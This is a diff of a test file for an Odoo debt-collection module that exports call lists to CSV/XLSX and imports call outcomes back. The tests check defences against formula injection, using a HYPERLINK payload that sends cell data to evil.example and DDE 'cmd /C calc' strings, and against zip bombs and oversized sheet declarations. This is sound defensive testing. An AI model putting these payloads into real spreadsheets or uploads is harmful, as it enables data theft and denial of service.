@@ -1,13 +1,21 @@
 """The external call centre: the worklist exported as CSV or XLSX, their outcomes imported back."""
 
 import base64
+import codecs
+import csv
 import io
+import re
+import tracemalloc
+import zipfile
 from datetime import datetime
 
 import openpyxl
+from openpyxl.utils import get_column_letter
 
-from odoo.exceptions import AccessError, UserError
+from odoo.exceptions import AccessError, UserError, ValidationError
 from odoo.tests import freeze_time
+
+from odoo.addons.smart_dunning.wizards.callcentre_file import COLUMNS, write_csv, write_xlsx
 
 from .common import d
 from .test_worklist import DUE, TODAY, WorklistCase
@@ -45,16 +53,32 @@ class CallcentreCase(WorklistCase):
         self.assertEqual(action["target"], "download")
         return base64.b64decode(wizard.file_data), wizard
 
-    def import_file(self, content, on_date=TODAY, lang="en_US", user=None):
+    def import_file(self, content, on_date=TODAY, lang="en_US", user=None, **vals):
         with freeze_time(on_date):
             wizard = (
                 self.env["dunning.callcentre.import"]
                 .with_user(user or self.collector)
                 .with_context(lang=lang)
-                .create({"file_data": base64.b64encode(content), "file_name": "calls.xlsx"})
+                .create({"file_data": base64.b64encode(content), "file_name": "calls.xlsx", **vals})
             )
             wizard.action_import()
         return wizard
+
+    def csv_rows(self, content):
+        """The exported CSV file as its header and rows of cells."""
+        reader = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
+        header, *rows = reader
+        return header, rows
+
+    def csv_file(self, header, rows, answers, delimiter=";"):
+        """The CSV text of ``rows`` with the answers {invoice: {column: value}} filled in."""
+        lines = [header]
+        for row in rows:
+            row = list(row)
+            for column, value in answers.get(row[0], {}).items():
+                row[header.index(column)] = value
+            lines.append(row)
+        return "\r\n".join(delimiter.join(line) for line in lines)
 
     def sheet(self, content):
         book = openpyxl.load_workbook(io.BytesIO(content))
@@ -101,9 +125,10 @@ class TestExport(CallcentreCase):
         self.assertEqual([r[0] for r in rows], [self.inv_3.name, self.inv_2.name, self.inv_1.name])
         self.assertEqual(wizard.row_count, 3)
         garage = dict(zip(header, rows[0], strict=True))
+        # the quote keeps Excel from reading the number as a (broken) formula
         self.assertEqual(
             (garage["Klant"], garage["Contact"], garage["Telefoon"]),
-            ("Garage Lambert", "Jean Lambert", "+32 475 98 76 54"),
+            ("Garage Lambert", "Jean Lambert", "'+32 475 98 76 54"),
         )
         self.assertEqual(garage["Vervaldatum"], "2026-02-08")
         self.assertEqual(garage["Verschuldigd bedrag"], "2000,00")
@@ -307,3 +332,317 @@ class TestImport(CallcentreCase):
             )
         with self.assertRaises(AccessError):
             self.env["dunning.callcentre.export"].with_user(self.seller).create({})
+
+
+class TestFormulaInjection(CallcentreCase):
+    """Text a customer controls must never reach a spreadsheet as a live formula (OWASP)."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.garage.name = '=HYPERLINK("https://evil.example/?"&A1,"Pay here")'
+        cls.jean.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+        cls.customer.email = "-2+3+cmd|' /C calc'!A0"
+
+    def test_csv_cells_start_with_a_quote(self):
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        garage = dict(zip(header, rows[0], strict=True))
+        self.assertEqual(garage["Customer"], '\'=HYPERLINK("https://evil.example/?"&A1,"Pay here")')
+        self.assertEqual(garage["Contact"], "'@SUM(1+1)*cmd|' /C calc'!A0")
+        self.assertEqual(garage["Phone"], "'+32 475 98 76 54")
+        brewery = dict(zip(header, rows[1], strict=True))
+        self.assertEqual(brewery["E-mail"], "'-2+3+cmd|' /C calc'!A0")
+        self.assertEqual(brewery["Customer"], "Brouwerij De Kroon", "other text untouched")
+
+    def test_xlsx_cells_are_quoted_strings_never_formulas(self):
+        content, _wizard = self.export("xlsx")
+        _book, sheet = self.sheet(content)
+        headers = [cell.value for cell in sheet[1]]
+        garage = {header: cell for header, cell in zip(headers, sheet[2], strict=False)}
+        brewery = {header: cell for header, cell in zip(headers, sheet[3], strict=False)}
+        for cell in (garage["Customer"], garage["Contact"], brewery["E-mail"]):
+            self.assertEqual(cell.data_type, "s", "a string, not a formula")
+            self.assertEqual(cell.value[0], "'", cell.value)
+        self.assertEqual(
+            garage["Customer"].value, '\'=HYPERLINK("https://evil.example/?"&A1,"Pay here")'
+        )
+        # a phone number has nothing a formula could do: left as the call centre dials it
+        self.assertEqual(garage["Phone"].value, "+32 475 98 76 54")
+
+    def test_a_note_starting_with_a_formula_character(self):
+        row = ["INV/1", "Cust", "", "", "", "", None, 10.0, "EUR", 3, "", ""]
+        outcome = ["Reached", None, None, "", "", "+ call back on Tuesday"]
+        headers = [str(label) for label, _kind in COLUMNS.values()]
+        text = write_csv(headers, [row + outcome]).decode("utf-8-sig")
+        self.assertTrue(text.splitlines()[1].endswith(";'+ call back on Tuesday"), text)
+        for note, written in (
+            ("=1+1", "'=1+1"),
+            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+            ("@x", "'@x"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("+32 2 555 12 34", "+32 2 555 12 34"),  # a number is not a formula
+        ):
+            book = openpyxl.load_workbook(
+                io.BytesIO(write_xlsx(headers, [[*row, *outcome[:-1], note]], [], "C", "O", "d"))
+            )
+            value = book.worksheets[0].cell(2, len(headers)).value
+            # XLSX escapes a carriage return as _x000D_, which openpyxl leaves as it is
+            self.assertEqual(value.replace("_x000D_", "\r"), written)
+        # the quote is not part of the note the call centre writes back
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        answers = {self.inv_3.name: {"Outcome": "Reached", "Note": "'+ call back on Tuesday"}}
+        self.import_file(self.csv_file(header, rows, answers).encode())
+        self.assertEqual(self.calls().note, "+ call back on Tuesday")
+
+
+class TestImportLimits(CallcentreCase):
+    """A file that is too large, too long or lies about its size is refused with a clear
+    message, cheaply."""
+
+    def answered_workbook(self):
+        content, _wizard = self.export("xlsx")
+        return self.fill(content, {self.inv_3.name: {"Outcome": "Reached"}})
+
+    def rewrite_sheet(self, content, change):
+        """The workbook with its first sheet's XML passed through ``change``."""
+        source = zipfile.ZipFile(io.BytesIO(content))
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+            for info in source.infolist():
+                data = source.read(info.filename)
+                if info.filename == "xl/worksheets/sheet1.xml":
+                    data = change(data.decode()).encode()
+                target.writestr(info.filename, data)
+        return buffer.getvalue()
+
+    def import_measured(self, content):
+        """Import, and return the wizard and the peak of memory allocated meanwhile."""
+        tracemalloc.start()
+        try:
+            wizard = self.import_file(content)
+        finally:
+            peak = tracemalloc.get_traced_memory()[1]
+            tracemalloc.stop()
+        return wizard, peak
+
+    def test_a_sheet_declaring_16384_columns_is_read_in_little_memory(self):
+        # 16,384 columns declared and a cell 2,000 rows down: reading every declared cell
+        # takes 260 MB (137 GB with the cell on the last row, 1,048,576)
+        content = self.rewrite_sheet(
+            self.answered_workbook(),
+            lambda xml: re.sub(
+                r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD2000"/>', xml
+            ).replace(
+                "</sheetData>",
+                '<row r="2000"><c r="A2000" t="inlineStr"><is><t>x</t></is></c></row>'
+                "</sheetData>",
+            ),
+        )
+        self.assertLess(len(content), 10_000)
+        wizard, peak = self.import_measured(content)
+        self.assertEqual((wizard.call_count, self.calls().move_ids), (1, self.inv_3))
+        self.assertEqual(wizard.not_called_count, 3, "row 2000 has no outcome")
+        self.assertLess(peak, 30 * 1024 * 1024, "the declared size is not allocated")
+
+    def test_a_row_far_away_or_too_wide_is_refused_in_little_memory(self):
+        far = self.rewrite_sheet(
+            self.answered_workbook(),
+            lambda xml: xml.replace(
+                "</sheetData>",
+                '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+                "</sheetData>",
+            ),
+        )
+        tracemalloc.start()
+        with self.assertRefused(UserError, "This file has more than 50000 rows"):
+            self.import_file(far)
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        self.assertLess(peak, 30 * 1024 * 1024)
+        cells = "".join(f'<c r="{get_column_letter(col)}9"><v>1</v></c>' for col in range(1, 5001))
+        wide = self.rewrite_sheet(
+            self.answered_workbook(),
+            lambda xml: xml.replace("</sheetData>", f'<row r="9">{cells}</row></sheetData>'),
+        )
+        with self.assertRefused(UserError, "A row of this file has more than 1000 cells"):
+            self.import_file(wide)
+        self.assertFalse(self.calls())
+
+    def test_a_zip_bomb_is_not_unpacked(self):
+        self.company.dunning_import_max_mb = 1
+        # 11 MB of XML that zips to a few kB
+        bomb = self.rewrite_sheet(
+            self.answered_workbook(),
+            lambda xml: xml.replace("</sheetData>", "</sheetData>" + " " * 11_000_000),
+        )
+        self.assertLess(len(bomb), 1024 * 1024)
+        with self.assertRefused(UserError, "unpacks to more than 10 MB"):
+            self.import_file(bomb)
+
+    def test_size_and_row_limits_from_the_settings(self):
+        settings = self.env["res.config.settings"].create({})
+        self.assertEqual(
+            (settings.dunning_import_max_mb, settings.dunning_import_max_rows), (10, 50000)
+        )
+        settings.write({"dunning_import_max_mb": 1, "dunning_import_max_rows": 2})
+        settings.execute()
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        answers = {name: {"Outcome": "No answer"} for name in (self.inv_1.name, self.inv_3.name)}
+        text = self.csv_file(header, rows, answers)
+        with self.assertRefused(UserError, "This file has more than 2 rows"):
+            self.import_file(text.encode())
+        # blank lines count as nothing once past... but a note of 1.2 MB makes the file too big
+        big = self.csv_file(
+            header, rows[:1], {self.inv_3.name: {"Outcome": "Reached", "Note": "x" * 1_200_000}}
+        )
+        with self.assertRefused(UserError, "This file is 1.1 MB; files over 1 MB"):
+            self.import_file(big.encode())
+        self.assertFalse(self.calls())
+        self.company.dunning_import_max_rows = 3
+        self.assertEqual(self.import_file(text.encode()).call_count, 2)
+        with self.assertRefused(ValidationError, "at least 1"):
+            self.company.dunning_import_max_rows = 0
+
+    def test_blank_leading_rows_are_skipped_and_rows_keep_their_number(self):
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        text = self.csv_file(header, rows, {self.inv_1.name: {"Outcome": "Called back"}})
+        with self.assertRefused(UserError, f"Row 7 \\({self.inv_1.name}\\): unknown outcome"):
+            self.import_file(("\r\n;;\r\n\r\n" + text).encode())
+
+
+class TestImportEncodings(CallcentreCase):
+    def answered_text(self, delimiter=";"):
+        content, _wizard = self.export("csv", lang="fr_BE")
+        header, rows = self.csv_rows(content)
+        answers = {self.inv_3.name: {"Résultat": "Pas de réponse", "Remarque": "Réessayer à 14 h"}}
+        return self.csv_file(header, rows, answers, delimiter)
+
+    def test_utf16_with_or_without_a_byte_order_mark(self):
+        # Excel's "Unicode Text": UTF-16 with a byte-order mark, tab-separated
+        text = self.answered_text("\t")
+        for content in (text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-16-be")):
+            wizard = self.import_file(content)
+            self.assertEqual(wizard.call_count, 1)
+            self.assertEqual(self.calls()[0].note, "Réessayer à 14 h")
+            self.calls().unlink()
+
+    def test_utf8_without_a_mark_and_windows_1252(self):
+        for content in (self.answered_text().encode(), self.answered_text().encode("cp1252")):
+            self.import_file(content)
+            self.assertEqual(self.calls().note, "Réessayer à 14 h")
+            self.calls().unlink()
+
+    def test_a_file_in_no_known_encoding_gets_a_clear_message(self):
+        for content in (
+            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10",
+            codecs.BOM_UTF16_LE + b"\x00\xd8\x00\xd8",  # a lone surrogate: not UTF-16
+        ):
+            with self.assertRefused(UserError, "not a text file in an encoding we can read"):
+                self.import_file(content)
+
+
+class TestImportDates(CallcentreCase):
+    def import_dates(self, call_date, promise_date="", **vals):
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        answers = {
+            self.inv_3.name: {
+                "Outcome": "Promise to pay",
+                "Call Date": call_date,
+                "Promised Payment Date": promise_date or "2026-04-10",
+            }
+        }
+        return self.import_file(self.csv_file(header, rows, answers).encode(), **vals)
+
+    def test_day_first_by_default_whatever_the_users_language(self):
+        self.import_dates("05/03/2026", "10/04/2026")
+        call = self.calls()
+        self.assertEqual(call.date, datetime(2026, 3, 5, 12, 0), "5 March, not 3 May")
+        self.assertEqual(call.plan_id.line_ids.date_due, d("2026-04-10"))
+
+    def test_month_first_when_declared(self):
+        self.import_dates("03/05/2026 09:15", "04/10/2026", date_format="mdy")
+        call = self.calls()
+        self.assertEqual(call.date, datetime(2026, 3, 5, 9, 15))
+        self.assertEqual(call.plan_id.line_ids.date_due, d("2026-04-10"))
+
+    def test_iso_dates_always(self):
+        self.import_dates("2026-03-05T09:15", "2026-04-10", date_format="mdy")
+        self.assertEqual(self.calls().date, datetime(2026, 3, 5, 9, 15))
+
+    def test_invalid_or_ambiguous_dates_are_row_errors(self):
+        name = self.inv_3.name
+        with self.assertRefused(
+            UserError, f'Row 2 \\({name}\\): the call date "03/25/2026" is not a date'
+        ):
+            self.import_dates("03/25/2026")
+        with self.assertRefused(
+            UserError,
+            f'Row 2 \\({name}\\): the date "05/03/26" in the column "Call Date" is ambiguous',
+        ):
+            self.import_dates("05/03/26")
+        with self.assertRefused(UserError, 'the promised date "04/31/2026" is not a date'):
+            self.import_dates("2026-03-05", "04/31/2026", date_format="mdy")
+        self.assertFalse(self.calls())
+
+
+class TestReimport(CallcentreCase):
+    def test_the_same_file_twice_logs_each_call_once(self):
+        content, _wizard = self.export("xlsx")
+        self.customer.property_payment_term_id = self.env.ref("account.account_payment_term_30days")
+        answers = {
+            self.inv_3.name: {
+                "Outcome": "Promise to pay",
+                "Call Date": datetime(2026, 3, 19, 10, 30),
+                "Promised Payment Date": datetime(2026, 3, 31),
+            },
+            self.inv_1.name: {
+                "Outcome": "payment_term",
+                "Call Date": "19/03/2026",
+                "Payment Term Agreed": self.env.ref("account.account_payment_term_45days").name,
+            },
+            self.inv_2.name: {"Outcome": "No answer"},
+        }
+        filled = self.fill(content, answers)
+        first = self.import_file(filled)
+        self.assertEqual((first.call_count, first.duplicate_count), (3, 0))
+        plans = self.env["dunning.plan"].search([])
+        again = self.import_file(filled, on_date="2026-03-20 16:00:00")
+        self.assertEqual(again.state, "done")
+        self.assertEqual((again.call_count, again.row_count, again.duplicate_count), (0, 0, 3))
+        self.assertEqual(
+            set(again.duplicate_names.split(", ")),
+            {self.inv_1.name, self.inv_2.name, self.inv_3.name},
+        )
+        self.assertEqual(len(self.calls()), 3)
+        self.assertEqual(self.env["dunning.plan"].search([]), plans, "no second promise")
+        # a later file with a new call on the same invoice is new: logged
+        answers[self.inv_2.name] = {"Outcome": "Reached", "Call Date": "20/03/2026 15:00"}
+        later = self.import_file(self.fill(content, answers), on_date="2026-03-20 16:00:00")
+        self.assertEqual((later.call_count, later.duplicate_count), (1, 2))
+        self.assertEqual(len(self.calls()), 4)
+
+
+class TestAllOrNothing(CallcentreCase):
+    def test_one_good_row_and_one_bad_row_import_nothing(self):
+        content, _wizard = self.export("csv")
+        header, rows = self.csv_rows(content)
+        answers = {
+            self.inv_3.name: {"Outcome": "Promise to pay", "Promised Payment Date": "31/03/2026"},
+            self.inv_1.name: {"Outcome": "Called back later"},
+        }
+        messages = self.env["mail.message"].search_count([])
+        with self.assertRefused(UserError, "Nothing was imported") as refused:
+            self.import_file(self.csv_file(header, rows, answers).encode())
+        message = str(refused.exception)
+        self.assertIn(f'Row 4 ({self.inv_1.name}): unknown outcome "Called back later"', message)
+        self.assertNotIn(self.inv_3.name, message)
+        self.assertFalse(self.env["dunning.call"].search([]))
+        self.assertFalse(self.inv_3.dunning_plan_ids, "the good row's promise is not made")
+        self.assertEqual(self.env["mail.message"].search_count([]), messages)
+        self.assertTrue(self.on_list(self.inv_3))
